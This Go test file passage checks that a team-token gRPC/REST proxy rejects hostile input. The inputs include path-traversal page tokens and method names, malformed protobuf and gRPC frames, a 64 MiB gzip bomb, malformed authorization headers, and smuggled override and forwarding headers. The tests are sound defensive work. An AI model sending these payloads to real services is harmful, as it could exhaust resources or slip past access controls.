		"a page of too many":       {PageSize: 101},
		"the largest page":         {PageSize: math.MaxInt32},
		"a page token of nothing":  {PageToken: "="},
		"a page token of a path":   {PageToken: "../.."},
		"a page token's number":    {PageToken: "2"},
		"page 0":                   {PageToken: "MS4wLjIw"},
		"page -1":                  {PageToken: "MS4tMS4yMA"},
		"a page of other sizes":    {PageToken: "MS4yLjUw"},
		"a page past all":          {PageToken: "MS45OTk5OTk5OTk5OTkuMjA"},
	} {
		m.Organization = simulator.Organization
		add("list: "+name, harness.List, m)
	}
	for name, at := range map[string]*timestamppb.Timestamp{
		"the epoch":            {},
		"a year ago":           timestamppb.New(time.Now().AddDate(-1, 0, 0)),
		"a second ago":         timestamppb.New(time.Now().Add(-time.Second)),
		"the year 1":           timestamppb.New(time.Time{}),
		"before the year 1":    {Seconds: -62135596801},
		"the year 10000":       {Seconds: 253402300800},
		"the last second":      {Seconds: math.MaxInt64},
		"the first second":     {Seconds: math.MinInt64},
		"nanoseconds below 0":  {Seconds: 4102444800, Nanos: -1},
		"a second of them":     {Seconds: 4102444800, Nanos: 1e9},
		"the most nanoseconds": {Seconds: 4102444800, Nanos: math.MaxInt32},
	} {
		add("expired_at "+name, harness.Generate, &teamtokenv1.GenerateTokenRequest{TeamId: harness.Team, ExpiredAt: at})
	}
	return cases
}

// What a message that cannot be decoded is answered with.
const (
	undecodableCode   = codes.InvalidArgument
	undecodableReason = harness.InvalidField
)

// messages are bytes that are no message, or not of the method's type.
func messages() (cases []grpcCase) {
	id := harness.Text(1, harness.Team)
	for name, b := range map[string][]byte{
		"none":                            nil,
		"the team's id as a number":       {0x08, 0x01},
		"the team's id as a group":        {0x0b, 0x0c},
		"the team's id twice, then none":  append(slices.Clone(id), harness.Text(1, "")...),
		"the team's id twice, then worse": append(slices.Clone(id), harness.Text(1, "..")...),
	} {
		cases = append(cases, grpcCase{name: "message: " + name, method: harness.Generate, message: b, code: codes.InvalidArgument, reason: harness.InvalidField})
	}
	for name, b := range map[string][]byte{
		"a tag alone":                     {0x0a},
		"a length beyond the end":         {0x0a, 0x15, 't'},
		"a length beyond all bounds":      {0x0a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f},
		"a varint without an end":         bytes.Repeat([]byte{0xff}, 20),
		"field number 0":                  append([]byte{0x02, 0x00}, id...),
		"wire type 6":                     append(slices.Clone(id), 0x16),
		"wire type 7":                     append(slices.Clone(id), 0x17),
		"a group that is not closed":      append(slices.Clone(id), 0x7b),
		"a group closed that is not open": append(slices.Clone(id), 0x7c),
		"groups nested deep":              append(slices.Clone(id), bytes.Repeat([]byte{0x7b}, 30000)...),
		"an expiry cut short":             append(slices.Clone(id), 0x12, 0x02, 0x08),
		"an expiry that is no message":    append(slices.Clone(id), harness.Text(2, "2099-01-01T00:00:00Z")...),
		"a request id of bad bytes":       append(slices.Clone(id), harness.Text(3, "\xff\xfe")...),
		"a token id of bad bytes":         append(slices.Clone(id), harness.Text(4, "\xc0\xaf")...),
		"JSON":                            []byte(`{"team_id":"` + harness.Team + `"}`),
		"a JSON:API document":             []byte(`{"data":{"type":"authentication-tokens"}}`),
		"HTML":                            []byte("<html></html>"),
		"NULs":                            make([]byte, 100),
		"one bits":                        bytes.Repeat([]byte{0xff}, 60000),
	} {
		cases = append(cases, grpcCase{name: "message: " + name, method: harness.Generate, message: b, code: undecodableCode, reason: undecodableReason})
	}
	// grpc-go counts the bytes before it knows the method's type.
	for _, n := range []int{64<<10 + 1, 1 << 20} {
		cases = append(cases, grpcCase{
			name: fmt.Sprintf("message: %d bytes", n), method: harness.Generate, message: make([]byte, n), code: codes.ResourceExhausted,
		})
	}
	return cases
}

func unknownMethods() (cases []grpcCase) {
	const service = "/teamtoken.v1.TeamTokenService/"
	for _, m := range []string{
		service, service + "generateToken", service + "GenerateTokens", service + "GenerateToken/", service + "../GetToken", service + "GetToken%00",
		"/teamtoken.v1.TeamTokenService", "/teamtoken.v1.teamtokenservice/GetToken", "/teamtoken.v2.TeamTokenService/GetToken",
		"/TeamTokenService/GetToken", "//teamtoken.v1.TeamTokenService/GetToken", "/", harness.TokenPath, "/grpc.health.v1.Health/Chec",
		"/grpc.health.v1.Nothing/Check", "/grpc.channelz.v1.Channelz/GetServers",
	} {
		cases = append(cases, grpcCase{name: "method " + m, method: m, message: harness.Text(1, harness.Team), code: codes.Unimplemented})
	}
	return cases
}

// An authorization is what a caller sends who brings no credential that could be
// the upstream's.
type authorization struct {
	name   string
	values []string
}

func authorizations() []authorization {
	return []authorization{
		{"missing", nil},
		{"empty", []string{""}},
		{"the scheme alone", []string{"Bearer"}},
		{"the scheme and a space", []string{"Bearer "}},
		{"another scheme", []string{"Basic dTpw"}},
		{"no scheme", []string{"a.atlasv1.b"}},
		{"the scheme and a colon", []string{"Bearer: a"}},
		{"a tab for the space", []string{"Bearer\ta"}},
		{"two spaces", []string{"Bearer  a"}},
		{"two words", []string{"Bearer a b"}},
		{"two in one", []string{"Bearer a, Bearer b"}},
		{"twice", []string{"Bearer a", "Bearer b"}},
		{"the same twice", []string{"Bearer a", "Bearer a"}},
		{"one good, one empty", []string{"Bearer a", ""}},
		{"a tab within", []string{"Bearer a\tb"}},
		{"not ASCII", []string{"Bearer ä"}},
		{"a bad byte", []string{"Bearer a\xff"}},
		{"over-long", []string{"Bearer " + strings.Repeat("a", 5000)}},
	}
}

func (a authorization) overREST(t *testing.T, f *harness.Server) {
	// What a gateway of gRPC might take for metadata does not help.
	headers := []string{"Grpc-Metadata-Authorization: Bearer a", "Grpcgateway-Authorization: Bearer a", "X-Authorization: Bearer a", "Cookie: authorization=a"}
	for _, v := range a.values {
		headers = append(headers, "Authorization: "+v)
	}
	for _, m := range httpMethods {
		restCase{request: harness.RawRequest{Method: m, Target: harness.TokenPath, Headers: headers}, status: 401, reason: harness.Unauthenticated}.run(t, f)
	}
}

func (a authorization) overGRPC(t *testing.T, f *harness.Server, client *http.Client) {
	headers := [][2]string{{"grpc-metadata-authorization", "Bearer a"}, {"authorization-bin", "QmVhcmVyIGE"}, {"x-authorization", "Bearer a"}}
	for _, v := range a.values {
		headers = append(headers, [2]string{"authorization", v})
	}
	for _, m := range []string{harness.Generate, harness.Get, harness.Del} {
		grpcCase{method: m, headers: headers, message: harness.Text(1, harness.Team), code: codes.Unauthenticated, reason: harness.Unauthenticated}.run(t, f, client)
	}
}

// gzipBomb is a compressed message of 64 MiB.
func gzipBomb() []byte {
	var packed bytes.Buffer
	packer := gzip.NewWriter(&packed)
	_, _ = packer.Write(make([]byte, 64<<20))
	_ = packer.Close()
	message := harness.Frame(packed.Bytes())
	message[0] = 1
	return message
}

// What grpc-go answers by itself, before a message reaches any of this program,
// has the code that grpc-go chose. Nothing goes upstream all the same.
func TestHostileFraming(t *testing.T) {
	t.Parallel()
	sim, url := harness.NewSimulator(t)
	f, client := harness.Start(t, harness.WithService(sim, url)), harness.HTTP2(t)
	whole := harness.Frame(harness.Text(1, harness.Team))
	bomb := gzipBomb()
	for _, c := range []struct {
		name   string
		header [2]string
		body   []byte
		code   codes.Code
	}{
		{"a timeout without a unit", [2]string{"grpc-timeout", "1"}, whole, codes.Internal},
		{"a timeout without a number", [2]string{"grpc-timeout", "S"}, whole, codes.Internal},
		{"a timeout below zero", [2]string{"grpc-timeout", "-1S"}, whole, codes.Internal},
		{"a timeout with a point", [2]string{"grpc-timeout", "1.5S"}, whole, codes.Internal},
		{"a timeout of an unknown unit", [2]string{"grpc-timeout", "1s"}, whole, codes.Internal},
		{"a timeout of nine digits", [2]string{"grpc-timeout", "123456789S"}, whole, codes.Internal},
		{"an empty timeout", [2]string{"grpc-timeout", ""}, whole, codes.Internal},
		{"bytes that are not base64", [2]string{"x-a-bin", "%"}, whole, codes.Internal},
		{"an encoding that is not known", [2]string{"grpc-encoding", "nonsense"}, whole, codes.Unimplemented},
		{"an encoding that is not served", [2]string{"grpc-encoding", "snappy"}, whole, codes.Unimplemented},
		{"what is said to be gzip and is not", [2]string{"grpc-encoding", "gzip"}, append([]byte{1}, whole[1:]...), codes.Internal},
		{"a little gzip of a very long message", [2]string{"grpc-encoding", "gzip"}, bomb, codes.ResourceExhausted},
		{"a body of JSON", [2]string{"Content-Type", "application/json"}, []byte("{}"), codes.InvalidArgument},
		{"no content type", [2]string{"Content-Type", ""}, whole, codes.InvalidArgument},
		{"no frame", [2]string{}, nil, codes.Internal},
		{"a frame cut short", [2]string{}, whole[:len(whole)-1], codes.Internal},
		{"the head of a frame cut short", [2]string{}, whole[:3], codes.Internal},
		{"two frames", [2]string{}, slices.Concat(whole, whole), codes.Internal},
		{"a frame, and a byte", [2]string{}, slices.Concat(whole, []byte{0}), codes.Internal},
		{"a compressed frame without an encoding", [2]string{}, append([]byte{1}, whole[1:]...), codes.Internal},
		{"a flag that is not known", [2]string{}, append([]byte{0xff}, whole[1:]...), codes.Internal},
		{"a frame of 4 GiB", [2]string{}, append([]byte{0, 0xff, 0xff, 0xff, 0xff}, whole[5:]...), codes.ResourceExhausted},
	} {
		t.Run(c.name, func(t *testing.T) {
			var headers [][2]string
			if c.header[0] != "" {
				headers = [][2]string{c.header}
			}
			if st := f.SendGRPC(t, client, harness.Generate, headers, c.body); st.Code() != c.code {
				t.Errorf("%v: %s; want %v", st.Code(), st.Message(), c.code)
			}
			if n := len(sim.Requests()); n != 0 {
				t.Errorf("%d requests went upstream", n)
				sim.Reset()
			}
		})
	}
}

// harmless are headers that mean nothing here. Each holds a mark or the name of
// something that a proxy, a gateway or a framework would obey.
var harmless = [][]string{
	{"Grpc-Metadata-Authorization", "Bearer smuggled"},
	{"Grpc-Metadata-X-Request-Id", "smuggled"},
	{"Grpc-Metadata-X-Forwarded-For", "smuggled"},
	{"Grpc-Metadata-Idempotency-Key", "smuggled"},
	{"Grpc-Metadata-Grpc-Timeout", "0n"},
	{"Grpc-Metadata-Smuggled", "smuggled"},
	{"Grpc-Metadata-Smuggled-Bin", "c211Z2dsZWQ"},
	{"Grpc-Metadata-Smuggled-Bin", "%%%"},
	{"Grpcgateway-Authorization", "Bearer smuggled"},
	{"Authorization", "Bearer smuggled"},
	{"Authorization", "Basic smuggled"},
	{"Authorization", ""},
	{"Proxy-Authorization", "Bearer smuggled"},
	{"Cookie", "smuggled=smuggled"},
	{"X-HTTP-Method-Override", "DELETE"},
	{"X-HTTP-Method", "DELETE"},
	{"X-Method-Override", "DELETE"},
	{"X-Original-URL", "/api/v2/organizations/smuggled"},
	{"X-Rewrite-URL", "/api/v2/organizations/smuggled"},
	{"X-Forwarded-For", "smuggled"},
	{"X-Forwarded-Host", "smuggled.test"},
	{"X-Forwarded-Proto", "smuggled"},
	{"Forwarded", "for=smuggled"},
	{"X-Request-Id", "smuggled smuggled"},
	{"X-Request-Id", strings.Repeat("smuggled", 20)},
	{"X-Request-Id", "smuggled\xff"},
	{"Traceparent", "smuggled"},
	{"Tracestate", "smuggled=1"},
	{"Baggage", "smuggled=1"},
	{"Accept", "smuggled/smuggled"},
	{"Accept-Encoding", "smuggled"},
	{"User-Agent", "smuggled"},
	{"If-Match", "smuggled"},
	{"Range", "bytes=0-1"},
	{"Origin", "http://smuggled.test"},
	{"Te", "trailers"},
	{"Content-Type", "text/smuggled"}, // of no body
	{"Idempotency-Key", "smuggled"},   // on a GET it is nothing, and on a POST not for the upstream
}

// What means nothing here does nothing: the call works, and none of it goes
// upstream.
func TestHarmless(t *testing.T) {
	t.Parallel()
	sim, url := harness.NewSimulator(t)
	f, client := harness.Start(t, harness.WithService(sim, url)), harness.HTTP2(t)
	once := func(t *testing.T, method string) {
		t.Helper()
		requests := sim.Requests()
		sim.Reset()
		if len(requests) != 1 || requests[0].Method != method || requests[0].Path != harness.TokenPath {
			t.Fatalf("upstream saw %v, want one %s of the token", requests, method)
		}
		r := requests[0]
		if !r.Bearer.Equal(sim.UserToken()) {
			t.Error("the credential is not the service's")
		}
		for name, values := range r.Header {
			switch name {
			case "Accept", "Accept-Encoding", "Authorization", "Content-Length", "Content-Type", "User-Agent", "X-Request-Id":
			default:
				t.Errorf("the header %s went upstream", name)
			}
			if strings.Contains(strings.Join(values, ","), "smuggled") {
				t.Errorf("the header %s took over what the caller sent", name)
			}
		}
		if bytes.Contains(r.Body, []byte("smuggled")) {
			t.Error("the body took over what the caller sent")
		}
	}
	for _, h := range harmless {
		t.Run("rest/"+h[0]+" "+h[1], func(t *testing.T) {
			for _, c := range []struct {
				method string
				status int
			}{{"POST", 201}, {"GET", 200}} {
				r := harness.RawRequest{Method: c.method, Target: harness.TokenPath, Headers: []string{h[0] + ": " + h[1]}}
				resp, body := f.SendREST(t, r)
				if resp.StatusCode != c.status || resp.Header.Get("X-Request-Id") == "" {
					t.Fatalf("%s: status %d, want %d", c.method, resp.StatusCode, c.status)
				}
				if strings.Contains(fmt.Sprint(resp.Header)+string(body), "smuggled") {
					t.Errorf("%s: the answer took over what was sent", c.method)
				}
				once(t, c.method)
			}
		})
	}
	for _, h := range harmless {
		switch strings.ToLower(h[0]) {
		case "te", "content-type", "cookie", "user-agent", "accept-encoding", "accept", "grpc-metadata-smuggled-bin":
			continue // gRPC's own
		}
		t.Run("grpc/"+h[0]+" "+h[1], func(t *testing.T) {
			for _, c := range []struct{ method, upstream string }{{harness.Generate, "POST"}, {harness.Get, "GET"}} {
				st := f.SendGRPC(t, client, c.method, [][2]string{{strings.ToLower(h[0]), h[1]}}, harness.Frame(harness.Text(1, harness.Team)))
				if st.Code() != codes.OK {
					t.Fatalf("%s: %v", c.method, st)
				}
				once(t, c.upstream)
			}
		})
	}
	t.Run("rest/an absolute target", func(t *testing.T) {
		r := harness.RawRequest{Method: "GET", Target: "http://smuggled.test" + harness.TokenPath, Headers: []string{"Host: smuggled.test"}}
		if resp, _ := f.SendREST(t, r); resp.StatusCode != http.StatusOK {
			t.Fatal(resp.Status)
		}
		once(t, "GET")
	})
	t.Run("rest/the team in the query", func(t *testing.T) {
		r := harness.RawRequest{Method: "GET", Target: harness.TokenPath + "?team_id=smuggled&team_id.x=smuggled&TeamId=smuggled"}
		if resp, _ := f.SendREST(t, r); resp.StatusCode != http.StatusOK {
			t.Fatal(resp.Status)
		}
		once(t, "GET")
	})
}
